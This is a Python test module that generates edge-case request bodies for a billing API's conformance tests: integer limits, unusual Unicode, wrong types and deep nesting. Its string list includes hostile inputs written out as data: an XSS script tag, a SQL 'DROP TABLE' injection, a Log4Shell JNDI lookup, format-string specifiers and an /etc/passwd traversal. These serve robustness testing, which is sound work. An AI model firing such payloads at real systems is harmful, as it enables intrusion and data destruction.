"""Edge values: the limits of every type in the description, sent where a server is most likely to break.

As schemathesis's coverage phase and the "big list of naughty strings" do, these are the values a
random draw almost never reaches: integers past 32 and 64 bits, negative and zero, floats where
integers are declared, numbers sent as strings, empty, very long and unusual Unicode strings (NUL,
astral, right-to-left, combining marks, an unpaired surrogate), unknown field names beyond Latin-1,
and bodies nested deeper than most parsers go. Values of the declared type are ones where the docs
are silent (a server may store them or refuse them with 4xx); values of another type must be
refused.
"""

from __future__ import annotations

import json
from typing import Any

from conformance import spec
from conformance.lazy import strategies as st

# JSON Schema counts 1.0 and 1e308 as integers (no fractional part), so they are edges of the type.
INTEGERS: tuple[int | float, ...] = (
    0, -1, 2**31 - 1, 2**31, -(2**31) - 1, 2**53 + 1, 2**63 - 1, 2**63, 2**64, -(2**63) - 1, 10**30, 1.0, 1e308,
)  # fmt: skip
STRINGS: tuple[str, ...] = (
    "",
    " ",
    "\x00",
    "nul\x00inside",
    "\u202eright-to-left override\u202c",
    "مرحبا بالعالم",
    "שלום עולם",
    "e\u0301\u0302\u0303\u0304 combining",
    "Z\u0364\u0351\u0313a\u0308\u0316l\u036eg\u030c\u0317o\u0319",
    "astral \U0001f600\U0001d54a\U00020000",
    "\ufeffbyte order mark",
    "zero\u200bwidth",
    "\ud800",  # an unpaired surrogate: valid JSON text, not valid Unicode
    "\udc00",  # a low one alone: a check for high surrogates only misses it
    "\udc00\ud800",  # both halves, in the wrong order: still no pair
    "line\r\nbreak",
    "null",
    "-1",
    "1e309",
    "<script>alert(1)</script>",
    "'; DROP TABLE accounts; --",
    "${jndi:ldap://conformance.invalid/a}",
    "%s%n%x",
    "../../../../etc/passwd",
    "x" * 10_000,
)
# Where an integer is declared: values of other types, numbers written as strings among them.
NOT_INTEGERS: tuple[Any, ...] = (1.5, -0.5, 0.1, "1", "12", "", "0x10", True, None, [], {})
# Where a string is declared: values of other types.
NOT_STRINGS: tuple[Any, ...] = (0, -1, 2**64, 1.5, 1e308, True, None, [], {}, ["x"])
NESTING_DEPTHS = (64, 1_000, 100_000)
# Field names beyond Latin-1: a server may ignore or refuse an unknown field, but must not choke on
# its name (one that echoes it in a header cannot even encode it there).
UNKNOWN_NAMES = ("ключ", "键", "\U0001f511")


def _declared(name: str) -> str:
    return spec.component("Billing")["properties"][name]["type"]


def _document(document: Any) -> bytes:
    return json.dumps(document).encode()


def _field_value(name: str, valid: bool) -> st.SearchStrategy[dict[str, Any]]:
    if _declared(name) == "integer":
        values = INTEGERS if valid else NOT_INTEGERS
    else:
        values = STRINGS if valid else NOT_STRINGS
    return st.sampled_from(values).map(lambda value: {"billing": {name: value}})


def _one_field(valid: bool) -> st.SearchStrategy[bytes]:
    return st.sampled_from(spec.BILLING_FIELDS).flatmap(lambda name: _field_value(name, valid)).map(_document)


def billing_edges() -> st.SearchStrategy[bytes]:
    """PUT bodies with one billing field at an edge of its own type: the docs allow 200 or 4xx."""
    return _one_field(valid=True)


def _nested() -> list[bytes]:
    """Bodies nested deeper than most parsers go, each breaking the documented types."""
    bodies = []
    for depth in NESTING_DEPTHS:
        arrays = "[" * depth + "]" * depth
        bodies.append(f'{{"billing": {{"city": {arrays}}}}}'.encode())  # an array where a string is declared
        bodies.append(arrays.encode())  # an array where an object is declared
    return bodies


def wrongly_typed_edges() -> st.SearchStrategy[bytes]:
    """PUT bodies with an edge value of another type than declared: they must be refused."""
    return st.one_of(_one_field(valid=False), st.sampled_from(_nested()))


# Every edge value once, as schemathesis's coverage phase sends them: random draws alone would
# reach a given edge in a short run only by luck. Values take turns over the fields of their type.


def _spread(values: tuple[Any, ...], kind: str) -> list[bytes]:
    fields = [name for name in spec.BILLING_FIELDS if _declared(name) == kind]
    return [_document({"billing": {fields[i % len(fields)]: value}}) for i, value in enumerate(values)]


def every_same_type_edge() -> list[bytes]:
    """One PUT body per edge value of the declared type, and per unusual unknown field name."""
    unknown = [_document({"billing": {name: "x"}}) for name in UNKNOWN_NAMES]
    return _spread(STRINGS, "string") + _spread(INTEGERS, "integer") + unknown


# The body and billing where objects are declared: null, which statically typed stacks read as "not
# sent" (a field null is among the values above).
NOT_OBJECTS = (b"null", b'{"billing": null}')


def every_wrong_type_edge() -> list[bytes]:
    """One PUT body per edge value of another type than declared, and per nesting depth."""
    return _spread(NOT_STRINGS, "string") + _spread(NOT_INTEGERS, "integer") + list(NOT_OBJECTS) + _nested()
